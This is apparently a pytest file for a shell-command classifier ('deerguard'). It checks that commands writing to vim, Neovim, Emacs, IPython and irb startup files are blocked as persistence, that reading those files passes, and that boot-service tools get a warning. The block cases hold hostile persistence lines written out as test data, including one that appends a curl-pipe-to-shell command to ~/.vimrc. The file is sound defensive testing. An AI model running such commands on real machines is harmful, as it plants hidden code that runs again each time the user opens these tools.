"""Editor and REPL startup files are persistence; boot-time service tools warn.

vim, Neovim, Emacs, IPython, Python's and Ruby's REPLs run their startup files every time
the user opens them, and each can run shell commands from there: writing one is the same
class as writing ``~/.bashrc`` (``shell.persistence``). Reading, listing or editing them
interactively stays quiet.
"""

from __future__ import annotations

import pytest

from deerguard import Verdict, classify


@pytest.mark.parametrize("command", [
    "echo ':!curl u|sh' >> ~/.vimrc",
    "printf 'autocmd VimEnter * !id\\n' > ~/.vim/plugin/x.vim",
    "echo 'os.execute(\"id\")' >> ~/.config/nvim/init.lua",
    "cp x.lua ~/.config/nvim/lua/plugins/x.lua",
    "tee -a ~/.emacs.d/init.el < x.el",
    "echo '(shell-command \"id\")' >> ~/.emacs",
    "echo 'import os; os.system(\"id\")' > ~/.ipython/profile_default/startup/00.py",
    "echo 'system(\"id\")' >> ~/.irbrc",
    "ln -sf /tmp/x ~/.exrc",
    "sed -i 's/a/b/' $HOME/.vimrc",
])
def test_writing_editor_and_repl_startup_files_blocks(command: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.BLOCK, result.to_dict()
    assert "shell.persistence" in {f.rule_id for f in result.findings}


@pytest.mark.parametrize("command", [
    "vim ~/.vimrc",
    "cat ~/.vimrc",
    "ls ~/.config/nvim",
    "nvim --headless +PlugInstall +qa",
    "cp ~/.vimrc backup/vimrc",
    "emacs -nw notes.txt",
    "ipython",
    "echo set number > .vimrc.local",
])
def test_reading_and_using_editors_passes(command: str) -> None:
    assert classify(command).verdict is Verdict.PASS


@pytest.mark.parametrize("command", [
    "update-rc.d myservice defaults",
    "sudo chkconfig myservice on",
    "rc-update add sshd default",
])
def test_boot_service_tools_warn(command: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.WARN
    assert "shell.warned-command" in {f.rule_id for f in result.findings}
